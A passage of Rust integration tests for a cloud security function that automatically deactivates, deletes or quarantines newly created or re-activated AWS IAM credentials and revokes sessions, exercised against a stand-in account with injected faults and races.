//! The function `access-key` from end to end: events built from what the stand-in account answered, the function's own code against it over
//! the wire, and then the account, the calls and the mails.

#![expect(clippy::unwrap_used, reason = "a test fails by panicking, also in its helpers")]

use std::collections::BTreeMap;
use std::num::NonZeroU32;
use std::time::Duration;

use access_key::AccessKey;
use aws_sdk_iam::Client;
use aws_sdk_iam::error::ProvideErrorMetadata;
use aws_sdk_iam::types::StatusType;
use chrono::TimeDelta;
use rules::Outcome::{self, Alert, Contained, Failed, Reverted};
use rules::access_key::Kind::{self, ServiceSpecificCredential, SigningCertificate, SshPublicKey};
use runtime::Verdict::{Exempt, Ignored, Resent, Unreadable, Violation};
use sandbox::{CERTIFICATE, Fault, StandIn, StandInOptions, local_config};
use serde_json::{Value, json};
use tests::{
    ACCOUNT, DEVELOPER, Process, Ran, Stage, config_finding, event, expected, publish, refused, stand_in, unique,
};

const KEY: Kind = Kind::AccessKey;
const QUARANTINE: &[(&str, &str)] = &[("ACCESS_KEY_MODE", "quarantine")];
const ALERT: &[(&str, &str)] = &[("ACCESS_KEY_MODE", "alert")];
const POLICY: &str = "snapback-revoke-older-sessions";
const ALLOW_ALL: &str =
    r#"{"Version": "2012-10-17", "Statement": {"Effect": "Allow", "Action": "*", "Resource": "*"}}"#;
const TRUST_ACCOUNT: &str = r#"{"Version": "2012-10-17", "Statement":
    {"Effect": "Allow", "Principal": {"AWS": "123456789012"}, "Action": "sts:AssumeRole"}}"#;
const SSH_KEY: &str = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC example";

// ---------------------------------------------------------------------------------------------------------
// The account and the events

/// A user in a stand-in account, with an access key that is nobody's business, and the function.
struct Scene {
    stage: Stage,
    iam: Client,
    user: String,
    other_key: String,
}

/// A credential of the user: its event, and its id.
struct Made {
    kind: Kind,
    id: String,
    event: Value,
}

impl Scene {
    async fn new() -> Self {
        Self::of(Stage::new().await).await
    }

    async fn of(stage: Stage) -> Self {
        let (iam, user) = (Client::new(&stage.admin), format!("user-{}", unique()));
        iam.create_user().user_name(&user).send().await.unwrap();
        let other = iam.create_access_key().user_name(&user).send().await.unwrap().access_key.unwrap();
        Self { stage, iam, user, other_key: other.access_key_id }
    }

    /// A new credential and the event of its making.
    async fn make(&self, kind: Kind) -> Made {
        let (iam, user) = (&self.iam, &self.user);
        let created = "Nov 22, 2026 2:02:40 PM";
        let (name, id, request, response) = match kind {
            Kind::AccessKey => {
                let id =
                    iam.create_access_key().user_name(user).send().await.unwrap().access_key.unwrap().access_key_id;
                let made = json!({"userName": user, "accessKeyId": id, "status": "Active", "createDate": created});
                ("CreateAccessKey", id, json!({"userName": user}), json!({"accessKey": made}))
            }
            ServiceSpecificCredential => {
                let service = "bedrock.amazonaws.com";
                let made = iam.create_service_specific_credential().user_name(user).service_name(service);
                let made = made.send().await.unwrap().service_specific_credential.unwrap();
                let id = made.service_specific_credential_id;
                let request = json!({"userName": user, "serviceName": service});
                let made = json!({"userName": user, "serviceSpecificCredentialId": id, "serviceName": service,
                    "status": "Active", "createDate": created});
                ("CreateServiceSpecificCredential", id, request, json!({"serviceSpecificCredential": made}))
            }
            SshPublicKey => {
                let made = iam.upload_ssh_public_key().user_name(user).ssh_public_key_body(SSH_KEY).send().await;
                let id = made.unwrap().ssh_public_key.unwrap().ssh_public_key_id;
                let made = json!({"userName": user, "sSHPublicKeyId": id, "status": "Active", "uploadDate": created});
                let request = json!({"userName": user, "sSHPublicKeyBody": SSH_KEY});
                ("UploadSSHPublicKey", id, request, json!({"sSHPublicKey": made}))
            }
            SigningCertificate => {
                let made = iam.upload_signing_certificate().user_name(user).certificate_body(CERTIFICATE).send().await;
                let id = made.unwrap().certificate.unwrap().certificate_id;
                let made = json!({"userName": user, "certificateId": id, "status": "Active", "uploadDate": created});
                let request = json!({"userName": user, "certificateBody": CERTIFICATE});
                ("UploadSigningCertificate", id, request, json!({"certificate": made}))
            }
        };
        Made { kind, id, event: event("iam", name, request, response) }
    }

    /// A credential that was inactive and is active again, and the event of that.
    async fn activate(&self, kind: Kind) -> Made {
        let made = self.make(kind).await;
        self.set(&made, StatusType::Inactive).await;
        self.set(&made, StatusType::Active).await;
        let event = self.updated(&made, "Active");
        Made { event, ..made }
    }

    async fn new_or_activated(&self, kind: Kind, is_new: bool) -> Made {
        if is_new { self.make(kind).await } else { self.activate(kind).await }
    }

    /// The event of setting a credential's status.
    fn updated(&self, made: &Made, status: &str) -> Value {
        let request = json!({"userName": self.user, field(made.kind): made.id, "status": status});
        event("iam", &format!("Update{}", made.kind.api_name()), request, Value::Null)
    }

    async fn set(&self, made: &Made, status: StatusType) {
        self.set_under(&self.user, made, status).await;
    }

    async fn set_under(&self, user: &str, made: &Made, status: StatusType) {
        let (iam, id) = (&self.iam, &made.id);
        match made.kind {
            Kind::AccessKey => {
                let call = iam.update_access_key().user_name(user).access_key_id(id).status(status);
                call.send().await.map(drop).unwrap();
            }
            ServiceSpecificCredential => {
                let call = iam.update_service_specific_credential().user_name(user).status(status);
                call.service_specific_credential_id(id).send().await.map(drop).unwrap();
            }
            SshPublicKey => {
                let call = iam.update_ssh_public_key().user_name(user).ssh_public_key_id(id).status(status);
                call.send().await.map(drop).unwrap();
            }
            SigningCertificate => {
                let call = iam.update_signing_certificate().user_name(user).certificate_id(id).status(status);
                call.send().await.map(drop).unwrap();
            }
        }
    }

    /// The status of a credential; `None` if it is gone.
    async fn status(&self, made: &Made) -> Option<String> {
        let (iam, user, id) = (&self.iam, &self.user, &made.id);
        let status = match made.kind {
            Kind::AccessKey => self.keys().await.into_iter().find(|(known, _)| known == id).map(|(_, status)| status),
            ServiceSpecificCredential => {
                let list = iam.list_service_specific_credentials().user_name(user).send().await.unwrap();
                let mut list = list.service_specific_credentials.unwrap().into_iter();
                list.find(|known| known.service_specific_credential_id == *id).map(|known| known.status)
            }
            SshPublicKey => {
                let list = iam.list_ssh_public_keys().user_name(user).send().await.unwrap();
                let mut list = list.ssh_public_keys.unwrap().into_iter();
                list.find(|known| known.ssh_public_key_id == *id).map(|known| known.status)
            }
            SigningCertificate => {
                let list = iam.list_signing_certificates().user_name(user).send().await.unwrap();
                list.certificates.into_iter().find(|known| known.certificate_id == *id).map(|known| known.status)
            }
        };
        status.map(|status| status.as_str().to_owned())
    }

    /// Gives the user another name.
    async fn rename(&self) -> String {
        let new_name = format!("{}-renamed", self.user);
        self.iam.update_user().user_name(&self.user).new_user_name(&new_name).send().await.unwrap();
        new_name
    }

    /// Uses a key.
    async fn use_it(&self, made: &Made) {
        Client::new(&self.holder(&made.id).await).list_users().send().await.unwrap();
    }

    async fn keys(&self) -> Vec<(String, StatusType)> {
        let list = self.iam.list_access_keys().user_name(&self.user).into_paginator().items();
        let list: Vec<_> = list.send().try_collect().await.unwrap();
        list.into_iter().map(|key| (key.access_key_id.unwrap(), key.status.unwrap())).collect()
    }

    /// Expects that a credential ended so, and that the user's other key works.
    #[track_caller]
    fn ended(&self, made: &Made, status: Option<&str>) -> impl Future<Output = ()> {
        let place = std::panic::Location::caller();
        async move {
            assert_eq!(self.status(made).await.as_deref(), status, "{place}");
            let other = self.keys().await.into_iter().find(|(id, _)| *id == self.other_key);
            assert_eq!(other.unwrap().1, StatusType::Active, "{place}");
        }
    }

    fn process(&self, settings: &[(&str, &str)]) -> Process<AccessKey> {
        self.stage.process(AccessKey::new, settings)
    }

    /// A process that gets what happens now an hour later: it waits for nothing to become visible.
    fn late_process(&self, settings: &[(&str, &str)]) -> Process<AccessKey> {
        self.stage.process_ahead(AccessKey::new, settings, TimeDelta::try_hours(1).unwrap())
    }

    async fn run(&self, event: &Value) -> Ran {
        self.stage.run(&self.process(&[]), event).await
    }

    async fn run_with(&self, settings: &[(&str, &str)], event: &Value) -> Ran {
        self.stage.run(&self.process(settings), event).await
    }

    async fn run_late(&self, event: &Value) -> Ran {
        self.stage.run(&self.late_process(&[]), event).await
    }

    /// The function's next calls of that action fail.
    fn fail(&self, action: &str, code: &str, status: u16, times: u32) {
        self.stage.inject(Fault { status, times, ..Fault::new("", action, code) });
    }

    /// The function's next call of that action takes a while.
    fn slow_down(&self, action: &str) {
        self.stage.inject(Fault { code: None, delay_seconds: 1.5, ..Fault::new("", action, "") });
    }

    /// Hands over an event, and half that while later does something else.
    async fn run_while(&self, process: &Process<AccessKey>, event: &Value, deed: impl Future<Output = ()>) -> Ran {
        let later = async {
            tokio::time::sleep(Duration::from_millis(700)).await;
            deed.await;
        };
        tokio::join!(self.stage.run(process, event), later).0
    }

    fn deny(&self, action: &str) {
        self.fail(action, "AccessDenied", 403, 1);
    }

    // The function's calls, as the stand-in sees them.

    fn off(&self, made: &Made) -> String {
        let parameters = [("UserName", self.user.as_str()), (wire(made.kind), &made.id), ("Status", "Inactive")];
        expected(&format!("Update{}", made.kind.api_name()), &parameters)
    }

    fn deleted(&self, made: &Made) -> String {
        let parameters = [("UserName", self.user.as_str()), (wire(made.kind), &made.id)];
        expected(&format!("Delete{}", made.kind.api_name()), &parameters)
    }

    fn listed(&self, kind: Kind) -> String {
        expected(&format!("List{}s", kind.api_name()), &[("UserName", &self.user)])
    }

    /// The first blow, and that an access key is asked about.
    fn struck(&self, made: &Made) -> Vec<String> {
        let last_use = (made.kind == KEY).then(|| last_use(made));
        std::iter::once(self.off(made)).chain(last_use).collect()
    }

    /// A user's key in other hands: a client that signs with it, and may do everything that the user may.
    async fn holder(&self, key: &str) -> aws_config::SdkConfig {
        let policy = self.iam.put_user_policy().user_name(&self.user).policy_name("all").policy_document(ALLOW_ALL);
        policy.send().await.unwrap();
        local_config(stand_in().endpoint(), key).await
    }

    /// The document of the policy that denies older sessions, if it is on the user.
    async fn session_policy(&self) -> Option<Value> {
        let policy = self.iam.get_user_policy().user_name(&self.user).policy_name(POLICY).send().await.ok()?;
        Some(rules::policy::parse(&json!(policy.policy_document)).unwrap())
    }
}

fn last_use(made: &Made) -> String {
    expected("GetAccessKeyLastUsed", &[("AccessKeyId", &made.id)])
}

/// The id's name in records.
fn field(kind: Kind) -> &'static str {
    match kind {
        Kind::AccessKey => "accessKeyId",
        ServiceSpecificCredential => "serviceSpecificCredentialId",
        SshPublicKey => "sSHPublicKeyId",
        SigningCertificate => "certificateId",
    }
}

/// The id's name in requests.
fn wire(kind: Kind) -> &'static str {
    match kind {
        Kind::AccessKey => "AccessKeyId",
        ServiceSpecificCredential => "ServiceSpecificCredentialId",
        SshPublicKey => "SSHPublicKeyId",
        SigningCertificate => "CertificateId",
    }
}

fn calls<const PARTS: usize>(parts: [Vec<String>; PARTS]) -> Vec<String> {
    parts.concat()
}

/// The actions, where parameters hold times.
fn actions(ran: &Ran) -> Vec<&str> {
    ran.calls.iter().map(|call| call.action.as_str()).collect()
}

/// The calls without the lists of each user's, which follow that of the users: all tests share the account.
fn with_short_searches(mut ran: Ran) -> Ran {
    let mut searches = false;
    ran.calls.retain(|call| {
        let is_first = call.action == "ListUsers" && !searches;
        searches = is_first || (searches && call.action.starts_with("List"));
        is_first || !searches
    });
    ran
}

fn outcome(ran: &Ran) -> Outcome {
    ran.handled.report.as_ref().unwrap().outcome
}

// ---------------------------------------------------------------------------------------------------------
// What is new, re-activated or reset

#[tokio::test]
async fn what_is_new_is_deactivated_first_and_then_deleted() {
    for kind in Kind::ALL {
        let scene = Scene::new().await;
        let made = scene.make(kind).await;
        let ran = scene.run(&made.event).await;
        let rest = vec![scene.deleted(&made), scene.listed(kind), publish()];
        ran.is(Violation, &[Reverted], &calls([scene.struck(&made), rest]));
        ran.mail_says(&[
            &made.id,
            &scene.user,
            kind.words(rules::Language::English),
            "it is gone",
            "seconds after the change",
            DEVELOPER,
        ]);
        scene.ended(&made, None).await;
    }
}

#[tokio::test]
async fn quarantine_only_deactivates() {
    for kind in Kind::ALL {
        let scene = Scene::new().await;
        let made = scene.make(kind).await;
        let ran = scene.run_with(QUARANTINE, &made.event).await;
        let rest = vec![scene.listed(kind), publish()];
        ran.is(Violation, &[Contained], &calls([scene.struck(&made), rest]));
        let by_hand = format!("delete-{}", kind.words(rules::Language::English).to_lowercase().replace(' ', "-"));
        ran.mail_says(&["still there. Delete it", &by_hand]);
        scene.ended(&made, Some("Inactive")).await;
    }
}

#[tokio::test]
async fn what_was_activated_is_deactivated_and_not_deleted() {
    for kind in Kind::ALL {
        for (settings, outcome) in [(&[][..], Reverted), (QUARANTINE, Contained)] {
            let scene = Scene::new().await;
            let made = scene.activate(kind).await;
            let ran = scene.run_with(settings, &made.event).await;
            let first = vec![scene.listed(kind)];
            let rest = vec![scene.listed(kind), publish()];
            ran.is(Violation, &[outcome], &calls([first, scene.struck(&made), rest]));
            ran.mail_says(&["re-activated", "does not say what it was before", "--status Active"]);
            scene.ended(&made, Some("Inactive")).await;
        }
    }
}

#[tokio::test]
async fn what_was_reset_is_deactivated_and_not_deleted() {
    let scene = Scene::new().await;
    let made = scene.make(ServiceSpecificCredential).await;
    let reset = scene.iam.reset_service_specific_credential().user_name(&scene.user);
    reset.service_specific_credential_id(&made.id).send().await.unwrap();
    let response = made.event["detail"]["responseElements"].clone();
    let request = json!({"userName": scene.user, "serviceSpecificCredentialId": made.id});
    let event = event("iam", "ResetServiceSpecificCredential", request, response);

    let ran = scene.run(&event).await;
    let listed = scene.listed(ServiceSpecificCredential);
    ran.is(Violation, &[Reverted], &[listed.clone(), scene.off(&made), listed.clone(), publish()]);
    ran.mail_says(&["gave a new secret to", "with its new secret"]);
    scene.ended(&made, Some("Inactive")).await;

    // Inactive before: there is nothing to wait for.
    let ran = scene.run(&event).await;
    ran.is(Violation, &[Alert], &[listed, publish()]);
    ran.mail_says(&["already inactive: reset"]);
    assert!(ran.took < Duration::from_secs(5), "{:?}", ran.took);
}

#[tokio::test]
async fn where_nobody_is_named_it_is_the_callers_own() {
    let scene = Scene::new().await;
    let made = scene.make(KEY).await;
    let mut event = made.event.clone();
    event["detail"]["requestParameters"] = Value::Null;
    scene.run(&event).await.is(
        Violation,
        &[Reverted],
        &calls([scene.struck(&made), vec![scene.deleted(&made), scene.listed(KEY), publish()]]),
    );

    let made = scene.activate(KEY).await;
    let mut event = made.event.clone();
    event["detail"]["requestParameters"].as_object_mut().unwrap().remove("userName");
    event["detail"]["userIdentity"]["userName"] = json!(scene.user);
    event["detail"]["userIdentity"]["arn"] = json!(format!("arn:aws:iam::{ACCOUNT}:user/{}", scene.user));
    assert_eq!(outcome(&scene.run(&event).await), Reverted);
    scene.ended(&made, Some("Inactive")).await;
}

#[tokio::test]
async fn what_the_function_does_itself_is_no_violation() {
    let scene = Scene::new().await;
    for kind in Kind::ALL {
        let made = scene.make(kind).await;
        scene.run(&scene.updated(&made, "Inactive")).await.is(Ignored, &[], &[]);
        scene.ended(&made, Some("Active")).await;
    }
}

#[tokio::test]
async fn trusted_actors_may_and_failed_calls_changed_nothing() {
    let scene = Scene::new().await;
    let made = scene.make(KEY).await;
    scene.run_with(&[("TRUSTED_ACTORS", DEVELOPER)], &made.event).await.is(Exempt, &[], &[]);
    scene.run_with(&[("ACCESS_KEY_MODE", "off")], &made.event).await.is(Ignored, &[], &[]);
    let mut failed = made.event.clone();
    failed["detail"]["errorCode"] = json!("AccessDenied");
    scene.run(&failed).await.is(Ignored, &[], &[]);
    scene.ended(&made, Some("Active")).await;

    let mut blind = made.event.clone();
    blind["detail"]["responseElements"] = Value::Null;
    let ran = scene.run(&blind).await;
    ran.is(Unreadable, &[Alert], &[publish()]);
    ran.mail_says(&["no `accessKeyId`"]);
}

#[tokio::test]
async fn a_key_of_the_root_user_is_told_and_nothing_is_called() {
    let scene = Scene::new().await;
    let made = scene.make(KEY).await;
    let mut event = made.event.clone();
    event["detail"]["userIdentity"] = json!({"type": "Root", "arn": format!("arn:aws:iam::{ACCOUNT}:root")});
    // Root for a user is like anybody for a user.
    assert_eq!(outcome(&scene.run(&event).await), Reverted);
    scene.ended(&made, None).await;

    event["detail"]["requestParameters"] = Value::Null;
    event["detail"]["responseElements"]["accessKey"].as_object_mut().unwrap().remove("userName");
    for settings in [&[][..], QUARANTINE, ALERT] {
        let ran = scene.run_with(settings, &event).await;
        ran.is(Violation, &[Alert], &[publish()]);
        let delete = format!("aws iam delete-access-key --access-key-id {}", made.id);
        ran.mail_says(&[
            "ALERT: CRITICAL: new access key of the root user",
            "--target-principal 123456789012",
            &delete,
        ]);
    }
}

#[tokio::test]
async fn modes_that_only_tell_change_nothing() {
    for (kind, is_new) in Kind::ALL.into_iter().flat_map(|kind| [(kind, true), (kind, false)]) {
        let scene = Scene::new().await;
        let made = scene.new_or_activated(kind, is_new).await;
        for (settings, text) in [
            (ALERT, "AccessKeyMode is `alert`"),
            (&[("ROLLOUT", "observe")][..], "would have reverted: "),
            (&[("ROLLOUT", "observe"), ("ACCESS_KEY_MODE", "quarantine")][..], "would have reverted: "),
        ] {
            let ran = scene.run_with(settings, &made.event).await;
            let last_use = (kind == KEY).then(|| last_use(&made)).into_iter().collect();
            ran.is(Violation, &[Alert], &calls([vec![scene.listed(kind)], last_use, vec![publish()]]));
            ran.mail_says(&[text, "It still works", "deactivate"]);
            scene.ended(&made, Some("Active")).await;
        }
    }
}

// ---------------------------------------------------------------------------------------------------------
// Used keys

#[tokio::test]
async fn a_holder_of_the_key_is_shut_out_and_the_users_other_key_works_on() {
    let scene = Scene::new().await;
    let made = scene.make(KEY).await;
    let holder = Client::new(&scene.holder(&made.id).await);
    let owner = Client::new(&scene.holder(&scene.other_key).await);
    holder.list_users().send().await.unwrap();

    let ran = scene.run(&made.event).await;
    assert_eq!(ran.handled.error, None);
    assert_eq!(
        actions(&ran),
        [
            "UpdateAccessKey",
            "GetAccessKeyLastUsed",
            "PutUserPolicy",
            "GetAccessKeyLastUsed",
            "DeleteAccessKey",
            "ListAccessKeys",
            "LookupEvents",
            "Publish"
        ]
    );
    ran.mail_says(&[
        "REVERTED: already used: new access key of ",
        "for iam in us-east-1",
        POLICY,
        "In us-east-1, CloudTrail shows no role assumed so far",
    ]);
    let error = holder.list_users().send().await.unwrap_err();
    assert_eq!(error.code(), Some("InvalidClientTokenId"));
    owner.list_users().send().await.unwrap();
    let policy = scene.session_policy().await.unwrap();
    assert!(rules::policy::only_denies(&policy) && policy.to_string().contains("aws:TokenIssueTime"), "{policy}");
    scene.ended(&made, None).await;
}

#[tokio::test]
async fn roles_that_were_assumed_with_a_key_are_named() {
    for settings in [&[][..], QUARANTINE] {
        let scene = Scene::new().await;
        let made = scene.make(KEY).await;
        let sts = aws_sdk_sts::Client::new(&scene.holder(&made.id).await);
        let role = format!("role-{}", unique());
        let created = scene.iam.create_role().role_name(&role).assume_role_policy_document(TRUST_ACCOUNT);
        let arn = created.send().await.unwrap().role.unwrap().arn;
        sts.assume_role().role_arn(&arn).role_session_name("x").send().await.unwrap();

        let ran = scene.run_with(settings, &made.event).await;
        assert_eq!(ran.handled.error, None);
        let command = format!("aws iam put-role-policy --role-name {role} --policy-name AWSRevokeOlderSessions");
        ran.mail_says(&[&arn, &command, "In us-east-1, CloudTrail shows these roles assumed so far", "minutes late"]);
        assert!(scene.session_policy().await.is_some());
    }
}

#[tokio::test]
async fn where_the_event_history_cannot_be_read_that_is_said_and_no_more() {
    let scene = Scene::new().await;
    let made = scene.make(KEY).await;
    scene.use_it(&made).await;
    scene.fail("LookupEvents", "ThrottlingException", 400, 9);
    let ran = scene.run(&made.event).await;
    assert_eq!((ran.handled.error.clone(), outcome(&ran)), (None, Reverted));
    ran.mail_says(&["Not all assumed roles may be known: `LookupEvents` failed: ThrottlingException"]);
    scene.ended(&made, None).await;
}

#[tokio::test]
async fn a_key_that_is_only_watched_keeps_its_sessions() {
    let scene = Scene::new().await;
    let made = scene.make(KEY).await;
    scene.use_it(&made).await;
    let ran = scene.run_with(ALERT, &made.event).await;
    ran.is(Violation, &[Alert], &[scene.listed(KEY), last_use(&made), publish()]);
    ran.mail_says(&["WAS ALREADY USED", "deny everything to temporary credentials"]);
    assert_eq!(scene.session_policy().await, None);
}

/// No word of a call's target or result is English.
#[tokio::test]
async fn a_mail_in_japanese_tells_what_the_calls_gave() {
    let scene = Scene::new().await;
    let made = scene.make(KEY).await;
    scene.use_it(&made).await;
    let ran = scene.run_with(&[("ALERT_LANGUAGE", "ja")], &made.event).await;
    let (user, id) = (&scene.user, &made.id);
    ran.mail_says(&[
        &format!("CreateAccessKey により、アクセスキー {id} (IAM ユーザー {user}) が作成されました。\n"),
        "警告: キーはすでに使用されています。",
        &format!("UpdateAccessKey {user} {id}: 成功 ("),
        &format!("GetAccessKeyLastUsed {id}: us-east-1 の iam で使用 ("),
        &format!("PutUserPolicy {user} {POLICY}: 成功 ("),
        &format!("DeleteAccessKey {user} {id}: 成功 ("),
        &format!("ListAccessKeys {user}: 1 件 ("),
        &format!("LookupEvents us-east-1 {id}: イベント "),
    ]);
    assert!(ran.handled.reason.is_ascii(), "{ran:#?}");
}

/// Activated, used, and switched off again before anybody looks.
#[tokio::test]
async fn a_key_that_was_activated_only_for_a_moment_leaves_no_sessions() {
    let scene = Scene::new().await;
    let made = scene.activate(KEY).await;
    scene.use_it(&made).await;
    scene.set(&made, StatusType::Inactive).await;
    let process = scene.late_process(&[]);
    let ran = scene.stage.run(&process, &made.event).await;
    assert_eq!((ran.handled.error.clone(), outcome(&ran)), (None, Alert));
    let asked = ["GetAccessKeyLastUsed", "PutUserPolicy", "GetAccessKeyLastUsed", "LookupEvents"];
    assert_eq!(actions(&ran), [&["ListAccessKeys"][..], &asked, &["Publish"]].concat());
    ran.mail_says(&["already inactive", POLICY]);
    // Somebody else did that.
    ran.mail_does_not_say(&["Closed:"]);
    assert!(scene.session_policy().await.is_some());
    scene.stage.run(&process, &made.event).await.is(Violation, &[], &[scene.listed(KEY)]);
    scene.ended(&made, Some("Inactive")).await;

    // That policy is told of also where the first mail was not taken.
    let process = scene.late_process(&[]);
    scene.fail("Publish", "InternalError", 500, 3);
    assert!(scene.stage.run(&process, &made.event).await.handled.error.is_some());
    let retry = scene.stage.run(&process, &made.event).await;
    assert_eq!((retry.handled.error.clone(), outcome(&retry)), (None, Alert));
    retry.mail_says(&[POLICY]);
}

/// Renamed before AWS says whose the key is, or before the policy is put on, and another user made under the old name.
#[tokio::test]
async fn the_policy_is_put_on_the_keys_user_and_on_no_other_in_silence() {
    for slow in ["GetAccessKeyLastUsed", "PutUserPolicy"] {
        let mut scene = Scene::new().await;
        let made = scene.make(KEY).await;
        scene.use_it(&made).await;
        scene.slow_down(slow);
        let swap = async {
            scene.rename().await;
            scene.iam.create_user().user_name(&scene.user).send().await.unwrap();
        };
        let ran = scene.run_while(&scene.process(&[]), &made.event, swap).await;
        assert_eq!((ran.handled.error.clone(), outcome(&ran)), (None, Reverted));
        ran.mail_says(&[&format!("{POLICY} on user {}-renamed.", scene.user)]);
        let take_off = format!("aws iam delete-user-policy --user-name {} --policy-name {POLICY}\n", scene.user);
        let is_on_stranger = scene.session_policy().await.is_some();
        assert_eq!((is_on_stranger, ran.mail().body.contains(&take_off)), (slow == "PutUserPolicy", is_on_stranger));
        scene.user += "-renamed";
        assert!(scene.session_policy().await.is_some());
        scene.ended(&made, None).await;
    }
}

#[tokio::test]
async fn that_a_user_is_not_there_is_not_believed_while_the_key_is() {
    let scene = Scene::new().await;
    for (times, ends) in [(1, Reverted), (99, Failed)] {
        let made = scene.make(KEY).await;
        scene.use_it(&made).await;
        scene.fail("PutUserPolicy", "NoSuchEntity", 404, times);
        let ran = scene.run(&made.event).await;
        assert_eq!((outcome(&ran), ran.handled.error.is_some()), (ends, ends == Failed));
        if ends == Reverted {
            assert!(scene.session_policy().await.is_some());
            scene.ended(&made, None).await;
        } else {
            ran.mail_says(&["sessions live on"]);
            scene.ended(&made, Some("Inactive")).await;
        }
    }
}

#[tokio::test]
async fn that_the_user_went_meanwhile_is_told() {
    let scene = Scene::new().await;
    let made = scene.make(KEY).await;
    scene.use_it(&made).await;
    scene.slow_down("PutUserPolicy");
    let leave = async {
        for (key, _) in scene.keys().await {
            scene.iam.delete_access_key().user_name(&scene.user).access_key_id(key).send().await.unwrap();
        }
        scene.iam.delete_user_policy().user_name(&scene.user).policy_name("all").send().await.unwrap();
        scene.iam.delete_user().user_name(&scene.user).send().await.unwrap();
    };
    let ran = scene.run_while(&scene.process(&[]), &made.event, leave).await;
    assert_eq!((ran.handled.error.clone(), outcome(&ran)), (None, Reverted));
    ran.mail_says(&["There is no user ", "not deleted but renamed", "--user-name THE-NEW-NAME"]);
}

/// What is deleted can't be asked about any more.
#[tokio::test]
async fn where_deactivating_is_refused_sessions_are_revoked_all_the_same() {
    let scene = Scene::new().await;
    let made = scene.make(KEY).await;
    scene.use_it(&made).await;
    scene.deny("UpdateAccessKey");
    let ran = scene.run(&made.event).await;
    assert_eq!((ran.handled.error.clone(), outcome(&ran)), (None, Reverted));
    ran.mail_says(&["already used", POLICY]);
    assert!(scene.session_policy().await.is_some());
    scene.ended(&made, None).await;

    // Without an answer it is deleted at once.
    let made = scene.make(KEY).await;
    scene.deny("UpdateAccessKey");
    scene.deny("GetAccessKeyLastUsed");
    let ran = scene.run(&made.event).await;
    let asked = refused(last_use(&made), 403);
    let rest = [scene.deleted(&made), scene.listed(KEY), publish()].to_vec();
    ran.is(Violation, &[Reverted], &calls([vec![refused(scene.off(&made), 403), asked], rest]));
    ran.mail_says(&["Whether the key was used is not known", "If it turns out to have been used"]);
}

/// Such sessions are the user's own.
#[tokio::test]
async fn what_was_got_with_a_key_before_it_was_activated_is_left_alone() {
    let scene = Scene::new().await;
    let mut made = scene.make(KEY).await;
    scene.use_it(&made).await;
    made.event = scene.updated(&made, "Active");
    let later = (chrono::Utc::now() + TimeDelta::minutes(50)).to_rfc3339_opts(chrono::SecondsFormat::Secs, true);
    made.event["detail"]["eventTime"] = json!(later);
    let ran = scene.run_late(&made.event).await;
    ran.is(
        Violation,
        &[Reverted],
        &calls([vec![scene.listed(KEY)], scene.struck(&made), vec![scene.listed(KEY), publish()]]),
    );
    ran.mail_says(&["was used before the change", "used since the change"]);
    assert_eq!(scene.session_policy().await, None);
}

#[tokio::test]
async fn roles_that_were_assumed_with_a_session_of_the_key_are_named() {
    let scene = Scene::new().await;
    let made = scene.make(KEY).await;
    let sts = aws_sdk_sts::Client::new(&scene.holder(&made.id).await);
    let token = sts.get_session_token().send().await.unwrap().credentials.unwrap();
    let role = format!("role-{}", unique());
    let created = scene.iam.create_role().role_name(&role).assume_role_policy_document(TRUST_ACCOUNT);
    let arn = created.send().await.unwrap().role.unwrap().arn;
    let second = local_config(stand_in().endpoint(), &token.access_key_id).await;
    aws_sdk_sts::Client::new(&second).assume_role().role_arn(&arn).role_session_name("x").send().await.unwrap();
    let ran = scene.run(&made.event).await;
    assert_eq!((ran.handled.error.clone(), outcome(&ran)), (None, Reverted));
    ran.mail_says(&[&arn, "with the key or a session got by it"]);
}

#[tokio::test]
async fn sessions_that_could_not_be_revoked_in_time_are_told() {
    let scene = Scene::new().await;
    let made = scene.activate(KEY).await;
    scene.use_it(&made).await;
    scene.set(&made, StatusType::Inactive).await;
    scene.stage.inject(Fault { code: None, times: 9, delay_seconds: 8.0, ..Fault::new("", "PutUserPolicy", "") });
    let ran = scene.stage.run_within(&scene.late_process(&[]), &made.event, Duration::from_secs(15)).await;
    assert!(ran.handled.error.is_some());
    ran.mail_says(&["FAILED - ACT NOW: sessions live on: ", "the time for it ran out", "End them now"]);
}

// ---------------------------------------------------------------------------------------------------------
// The same event more than once, and in any order

#[tokio::test]
async fn twice_in_one_process_is_one_mail() {
    for kind in Kind::ALL {
        for (settings, is_new) in [(&[][..], true), (QUARANTINE, true), (&[][..], false), (QUARANTINE, false)] {
            let scene = Scene::new().await;
            let (process, made) = (scene.process(settings), scene.new_or_activated(kind, is_new).await);
            assert_eq!(scene.stage.run(&process, &made.event).await.mails.len(), 1);
            let again = scene.stage.run(&process, &made.event).await;
            again.is(Violation, &[], &[scene.listed(kind)]);
            assert!(again.took < Duration::from_secs(5), "{:?}", again.took);
            let is_deleted = is_new && settings.is_empty();
            scene.ended(&made, if is_deleted { None } else { Some("Inactive") }).await;
        }
    }
}

/// That activation has an event of its own, and may be a trusted actor's.
#[tokio::test]
async fn what_was_activated_since_is_left_to_its_own_event() {
    for (settings, is_new) in [(QUARANTINE, true), (&[][..], false)] {
        let scene = Scene::new().await;
        let (process, made) = (scene.process(settings), scene.new_or_activated(KEY, is_new).await);
        scene.stage.run(&process, &made.event).await;
        scene.set(&made, StatusType::Active).await;
        scene.stage.run(&process, &made.event).await.is(Violation, &[], &[scene.listed(KEY)]);
        scene.ended(&made, Some("Active")).await;
    }
}

#[tokio::test]
async fn in_a_second_process_it_is_already_gone() {
    let scene = Scene::new().await;
    for kind in Kind::ALL {
        let made = scene.make(kind).await;
        scene.run_late(&made.event).await;
        let ran = with_short_searches(scene.run_late(&made.event).await);
        let asked =
            if kind == KEY { refused(last_use(&made), 404) } else { expected("ListUsers", &[("MaxItems", "1000")]) };
        ran.is(Violation, &[Alert], &[refused(scene.off(&made), 404), asked, publish()]);
        ran.mail_says(&["already gone: new", "Nothing was changed"]);
        scene.ended(&made, None).await;
    }
    // Re-activated: it is there, and inactive.
    let made = scene.activate(SshPublicKey).await;
    scene.run_late(&made.event).await;
    let ran = scene.run_late(&made.event).await;
    ran.is(Violation, &[Alert], &[scene.listed(SshPublicKey), publish()]);
    ran.mail_says(&["already inactive: re-activated"]);
    // Quarantined: another process can't tell its own doing from the event's.
    let made = scene.make(SshPublicKey).await;
    for _ in 0..2 {
        let ran = scene.run_with(QUARANTINE, &made.event).await;
        ran.is(Violation, &[Contained], &[scene.off(&made), scene.listed(SshPublicKey), publish()]);
    }
}

#[tokio::test]
async fn two_processes_at_once_end_closed_and_both_tell() {
